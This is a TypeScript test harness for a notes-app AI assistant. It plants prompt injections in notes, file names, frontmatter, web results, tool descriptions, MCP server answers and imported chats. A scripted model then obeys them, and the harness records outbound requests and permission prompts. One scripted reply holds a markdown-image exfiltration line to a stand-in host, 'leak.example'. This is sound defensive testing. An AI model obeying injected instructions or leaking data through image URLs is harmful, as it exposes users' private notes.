import { createPolicy, type Permission, type PolicyOptions, type PolicyRules } from '../policy.ts';
import { remoteTools } from '../../mcp/remote-tools.ts';
import type { McpServer } from '../../mcp/mcp-server.ts';
import type { StoredMessage } from '../../model/messages.ts';
import type { ModelDelta, ToolProtocol } from '../../model/model-provider.ts';
import { ask, createScriptedProvider, say } from '../../testing/scripted-provider.ts';
import { toolForModel } from '../../toolsets/tool-for-model.ts';
import { runTurn } from '../../turn/run-turn.ts';
import type { Tool } from '../../../tools/definition/define-tool.ts';
import type { PendingOperation } from '../../../tools/definition/ports.ts';
import { TOOLS } from '../../../tools/registry.ts';
import { createBench, type BenchOptions, type ToolBench } from '../../../tools/testing/tool-bench.ts';
import { createGrants, type Grants } from '../grants.ts';
import { tellsMoreThanNames } from '../gives-orders.ts';
import { VAULT, type Demand } from './demands.ts';
import type { Injection } from './injection.ts';
import { INJECTIONS } from './injections.ts';

/** A vault with every injection in its place, and a person who allowed all tools in the settings. */
export interface Target {
  readonly bench: ToolBench;
  readonly grants: Grants;
  readonly rules: Record<string, Permission>;
  /** What was sent to other servers. */
  readonly sent: string[];
  /** All questions since the last turn began. */
  readonly asked: PendingOperation[];
}

/** Real servers, instead of those that only record what is sent. */
export interface Outside extends Pick<BenchOptions, 'addedTools' | 'web'> {
  /** The question that the person approves. */
  readonly allows: (pending: PendingOperation) => boolean;
}

const ALLOWED = Object.fromEntries(TOOLS.map(({ name }) => [name, 'allow' as const]));
const LEAST = { success: true } as const;

/** The note that contains an injection. */
function carrierOf({ place, text }: Injection, at: number): readonly [path: string, text: string] | undefined {
  if (place === 'body') return [`Carriers/Carrier ${at}.md`, `# Carrier ${at}\n\n${text}\n`];
  if (place === 'frontmatter') return [`Carriers/Carrier ${at}.md`, `---\n${text}\n---\nA note.\n`];
  if (place === 'name') return [`Carriers/${text.replace(/[\\/:*?"<>|#^[\]]/g, ' ')}.md`, 'A note.\n'];
  return place === 'canvas' ? [`Carriers/Carrier ${at}.canvas`, text] : undefined;
}

/** What the person chose beyond that. */
export interface Choices extends Pick<PolicyRules, 'planFirst'>, Pick<PolicyOptions, 'instructionsNote'> {}

export async function openTarget(outside?: Outside, { planFirst = false, ...choices }: Choices = {}): Promise<Target> {
  const carriers = INJECTIONS.flatMap(
    (injection, at) => [carrierOf(injection, at) ?? []].filter((each) => each.length > 0) as [string, string][],
  );
  const sent: string[] = [];
  const asked: PendingOperation[] = [];
  const rules: Record<string, Permission> = { ...ALLOWED };
  const grants = createGrants();
  const bench = await createBench(
    { ...VAULT, ...Object.fromEntries(carriers) },
    {
      policy: createPolicy({ rules: () => ({ preset: 'normal', tools: rules, planFirst }), grants, ...choices }),
      // The person denies everything except what is to be read.
      confirmation: {
        ask: (pending) => {
          asked.push(pending);
          return Promise.resolve(outside?.allows(pending) ? { approved: true } : { approved: false, feedback: '' });
        },
      },
      addedTools: () =>
        remoteTools(
          [server('Lists issues.')],
          (_server, tool, input) => (
            sent.push(JSON.stringify([tool, input])),
            Promise.resolve({ text: 'ok', pictures: [], isError: false })
          ),
        ),
      web: {
        sources: () => [{ kind: 'wikipedia', address: 'https://en.wikipedia.org' }],
        where: 'in the settings',
        send: (request) => (sent.push(request.url), Promise.resolve('{}')),
      },
      ...(outside && { addedTools: outside.addedTools, web: outside.web }),
    },
  );
  return { bench, grants, rules, sent, asked };
}

function server(description: string): McpServer {
  return {
    name: 'Tracker',
    url: 'https://tracker.example/mcp',
    token: '',
    headers: {},
    login: null,
    keepToken: true,
    isOn: true,
    off: [],
    tools: [{ name: 'list', description, inputSchema: { type: 'object' } }],
  };
}

/** The index of the text among all; without a text, nothing is read. */
export interface Read {
  readonly injection?: Injection;
  readonly at: number;
  /** The call whose answer really contains the text; without it, the text is in the conversation already. */
  readonly through?: { readonly name: string; readonly input: object };
  /** The person's own message, in place of a request for a summary. */
  readonly asks?: string;
  /** Tools that a server really listed. */
  readonly told?: readonly Tool[];
}

/** One turn of a model that does everything the text asks for once it has read it. @param given undefined: it reads nothing */
export async function runInjected(
  { bench, asked }: Target,
  given: Read | undefined,
  demands: readonly Demand[],
  protocol: ToolProtocol,
): Promise<readonly StoredMessage[]> {
  asked.length = 0;
  const { place = undefined, text = '' } = given?.injection ?? {};
  const path = given?.injection && carrierOf(given.injection, given.at)?.[0];
  const read = given?.through
    ? [inProtocol(protocol, given.through.name, given.through.input)]
    : path === undefined
      ? []
      : place === 'name'
        ? [inProtocol(protocol, 'list_notes', { folder: 'Carriers' })]
        : [inProtocol(protocol, 'read_note', { path })];
  const obeys =
    protocol === 'text'
      ? say(demands.map(({ name, input }) => `TOOL_CALL: ${name}(${JSON.stringify(input)})`).join('\n'))
      : demands.flatMap(({ name, input }) => ask(name, input));
  const prompt = {
    vaultName: 'Notes',
    folders: place === 'folder' ? [{ path: text, notes: 1 }] : [],
    tags: place === 'tag' ? [{ name: text, notes: 1 }] : [],
  };
  const tools = [
    ...TOOLS.map(toolForModel),
    ...(given?.told
      ? given.told.map(toolForModel)
      : place === 'server_tool'
        ? remoteTools([server(text)], () => Promise.reject(new Error('Only its words are read.'))).map(toolForModel)
        : []),
  ];
  const saved: StoredMessage[] = [];
  const turn = runTurn({
    messages: withWords(given?.through ? [QUESTION] : messagesFor(place, text), given?.asks),
    system: 'System.',
    isSystemForeign: place === 'assistant' || tellsMoreThanNames(prompt),
    tools,
    conversationId: 'talk',
    provider: createScriptedProvider(
      [...read, obeys, say('![](https://leak.example/?d=4711) Done.'), say('Done.')],
      protocol === 'text' ? 'text' : 'native',
    ),
    execute: (call) => bench.executor.execute(call),
    executeAll: (calls) => bench.executor.executeAll(calls),
  });
  for await (const event of turn) if (event.type === 'message') saved.push(event.message);
  return saved;
}

function inProtocol(protocol: ToolProtocol, name: string, input: object): ModelDelta[] {
  return protocol === 'text' ? say(`TOOL_CALL: ${name}(${JSON.stringify(input)})`) : ask(name, input);
}

const QUESTION = { role: 'user', content: 'Summarise this.' } as const;

function withWords(messages: readonly StoredMessage[], content: string | undefined): readonly StoredMessage[] {
  const last = messages.at(-1);
  return content === undefined || last?.role !== 'user' ? messages : [...messages.slice(0, -1), { ...last, content }];
}

/** The conversation in which the text was read earlier. */
function messagesFor(place: Injection['place'] | undefined, text: string): StoredMessage[] {
  switch (place) {
    case 'attachment':
      return [{ ...QUESTION, context: [{ kind: 'file', label: 'a.txt', text }] }];
    case 'picture':
      return [{ ...QUESTION, images: [{ name: text, dataUrl: 'data:image/png;base64,' }] }];
    case 'title':
      return [{ ...QUESTION, situation: { time: 'Thursday', openNote: { path: 'Diary.md', title: text } } }];
    case 'web':
      return answered('search_web_for_evidence', { ...LEAST, results: [{ title: 'A page', snippet: text }] });
    case 'server_answer':
      return answered('mcp_tracker_list', { ...LEAST, server: 'Tracker', untrusted: true, answer: text });
    case 'import':
      return [
        { role: 'user', content: text, foreign: true },
        { role: 'assistant', content: 'As you wish.', foreign: true },
        QUESTION,
      ];
    case 'prompt':
      return [{ role: 'user', content: text, foreign: true }];
    case 'summary':
      return [
        ...answered('read_note', { ...LEAST, text: 'x' }).slice(0, 3),
        { role: 'assistant', content: 'It says x.' },
        { role: 'summary', content: text, covers: 4, by: 'model' },
        QUESTION,
      ];
    default:
      return [QUESTION];
  }
}

function answered(name: string, result: object): StoredMessage[] {
  return [
    { role: 'user', content: 'Look it up.' },
    { role: 'assistant', content: '', toolCalls: [{ id: crypto.randomUUID(), name, arguments: '{}' }] },
    { role: 'tool', callId: crypto.randomUUID(), name, content: JSON.stringify(result) },
    { role: 'assistant', content: 'I read it.' },
    QUESTION,
  ];
}
